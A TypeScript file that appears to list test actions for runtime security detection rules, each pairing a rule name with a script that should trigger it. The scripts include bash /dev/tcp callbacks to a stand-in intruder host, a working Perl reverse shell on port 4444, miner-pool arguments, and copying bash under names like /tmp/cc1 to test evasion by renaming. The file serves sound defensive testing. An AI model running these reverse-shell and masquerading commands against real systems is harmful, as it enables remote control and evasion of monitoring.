/** Talking to whom a build does not talk to. */
import { type Action, INTRUDER } from "./action.ts";

/** A program, by its bare name, that speaks to a port and says what it heard. */
const speaks = (program: string, port: number): string => `${program} -c 'exec 3<>/dev/tcp/${INTRUDER}/${port}; echo hello >&3; read -t 5 a <&3; echo $a'`;

export const NETWORK: readonly Action[] = [
  {
    name: "DetectCryptoMinersUsingTheStratumProtocol",
    script: "bash -c 'echo $0 $*' -o stratum+tcp://pool.example:3333 -u wallet",
    shows: /stratum\+tcp/,
    renamed: "cp /bin/bash /tmp/make; /tmp/make -c 'echo $0 $*' -o stratum+tcp://pool.example:3333 -u wallet",
  },
  {
    name: "DetectOutboundConnectionsToCommonMinerPoolPorts",
    script: speaks("bash", 3333),
    shows: /answer from port 3333/,
    renamed: `cp /bin/bash /tmp/cc1; ${speaks("/tmp/cc1", 3333)}`,
  },
  { name: "DisallowedSSHConnectionNonStandardPort", script: speaks("ssh", 443), shows: /answer from port 443/ },
  {
    name: "InterpretedProcsInboundNetworkActivity",
    script: `perl -MSocket -e 'socket S, PF_INET, SOCK_STREAM, 0; bind S, sockaddr_in(8081, INADDR_ANY) or die; listen S, 1;
      if (!fork) { socket C, PF_INET, SOCK_STREAM, 0; connect C, sockaddr_in(8081, INADDR_LOOPBACK) or die; syswrite C, "came in\\n"; exit }
      accept A, S or die; print scalar <A>'`,
    shows: /^came in$/m,
  },
  {
    name: "InterpretedProcsOutboundNetworkActivity",
    script: `perl -MSocket -e '$| = 1; socket C, PF_INET, SOCK_STREAM, 0; connect C, sockaddr_in(9, inet_aton("${INTRUDER}")) or die; syswrite C, "x\\n"; print scalar <C>'`,
    shows: /answer from port 9/,
  },
  { name: "SystemProcsNetworkActivity", script: speaks("sha1sum", 9), shows: /answer from port 9/ },
  {
    name: "UnexpectedUDPTraffic",
    script: `perl -MSocket -e 'socket U, PF_INET, SOCK_DGRAM, 0; connect U, sockaddr_in(9999, inet_aton("${INTRUDER}")) or die; send U, "x", 0; recv U, $_, 100, 0; print'`,
    shows: /answer from port 9999/,
  },
  { name: "UnexpectedK8sNodePortConnection", script: speaks("bash", 30080), shows: /answer from port 30080/ },
  {
    name: "RedirectStdoutStdinToNetworkConnectionInContainer",
    script: `perl -MSocket -e 'socket C, PF_INET, SOCK_STREAM, 0; connect C, sockaddr_in(4444, inet_aton("${INTRUDER}")) or die;
      open STDIN, "<&C"; open STDOUT, ">&C"; exec {"/bin/bash"} "bash"'; cat /tmp/owned`,
    shows: /^owned by \d+$/m,
    renamed: `cp /bin/bash /tmp/cc1; perl -MSocket -e 'socket C, PF_INET, SOCK_STREAM, 0; connect C, sockaddr_in(4444, inet_aton("${INTRUDER}")) or die;
      open STDIN, "<&C"; open STDOUT, ">&C"; exec {"/tmp/cc1"} "cc1"'; cat /tmp/owned`,
  },
];
